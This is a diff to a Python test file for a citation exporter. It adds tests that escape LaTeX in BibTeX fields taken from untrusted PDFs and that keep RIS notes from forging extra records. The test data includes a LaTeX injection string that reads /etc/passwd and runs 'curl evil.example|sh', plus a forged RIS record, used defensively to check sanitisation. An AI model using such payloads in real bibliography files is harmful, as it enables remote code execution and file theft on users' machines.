@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import bibtexparser
 import rispy
@@ -47,7 +48,7 @@ def test_bibtex_parses_back_with_every_field() -> None:
     assert entry.entry_type == "article" and entry.key == "Rumble2016_PMC4738698"
     assert fields == {"title": TULAREMIA.title, "author": "Rumble, Kurt J. and Larson, Jeffrey",
                       "journal": TULAREMIA.journal, "year": "2016", "doi": TULAREMIA.doi, "pmcid": "PMC4738698"}
-    assert library.entries[1].fields_dict["title"].value.endswith("{unbalanced}"), "braces stay balanced"
+    assert library.entries[1].fields_dict["title"].value.endswith(r"\textbraceleft{}unbalanced"), "a brace is text"
 
 
 def test_csv_keeps_fields_and_defuses_formulas() -> None:
@@ -70,3 +71,31 @@ def test_cli_exports_the_result_papers(library_home, monkeypatch) -> None:
     assert ref.output.startswith("1. ") and "Methemoglobinemia" in ref.output and "PMC4736312" in ref.output
     docs = [d for d, _ in Store.from_settings(library_home).documents()]
     assert all(citations.vancouver(docs)), "every stored paper has a citation"
+
+
+HOSTILE_TITLE = r"\input{/etc/passwd} \immediate\write18{curl evil.example|sh} $x^2$ 100% #1 a_b ~ & }{"
+
+
+def test_bibtex_values_are_latex_escaped() -> None:
+    """A title (or author, journal, note) from an untrusted PDF cannot run a LaTeX command when the .bib is used."""
+    doc = Document(id=9, source="pdf", title=HOSTILE_TITLE, authors="\\def\\x{1}", journal="J {of} \\relax",
+                   year=2021, doi="10.1000/x}\\input{y", pmcid="PMC1")
+    bib = citations.to_bibtex([doc], notes={9: "see \\url{x}\nnext line"})
+    library = bibtexparser.parse_string(bib)
+    assert not library.failed_blocks and len(library.entries) == 1
+    fields = {k: f.value for k, f in library.entries[0].fields_dict.items()}
+    for name in ("title", "author", "journal", "note"):
+        unescaped = re.sub(r"\\(textbackslash|textbraceleft|textbraceright|textasciicircum|textasciitilde)\{\}"
+                           r"|\\[$&%#_]", "", fields[name])
+        assert "\\" not in unescaped and not re.search(r"(?<!\\)[$&%#^~]", unescaped), (name, fields[name])
+    assert fields["title"].startswith(r"\textbackslash{}input\textbraceleft{}/etc/passwd\textbraceright{}")
+    assert fields["doi"] == "10.1000/xinputy" and "\n" not in fields["note"]
+
+
+def test_a_note_with_newlines_stays_one_ris_record() -> None:
+    forged = "mine\nER  - \n\nTY  - JOUR\nTI  - Forged paper\r\nAU  - Mallory\u2028UR  - https://evil.example"
+    ris = citations.to_ris([TULAREMIA], notes={7: forged})
+    records = rispy.loads(ris)
+    assert len(records) == 1 and records[0]["title"] == TULAREMIA.title and "Mallory" not in records[0]["authors"]
+    assert [line[:2] for line in ris.splitlines() if line].count("TY") == 1
+    assert records[0]["notes"] == [" ".join(forged.replace("\u2028", " ").split())]
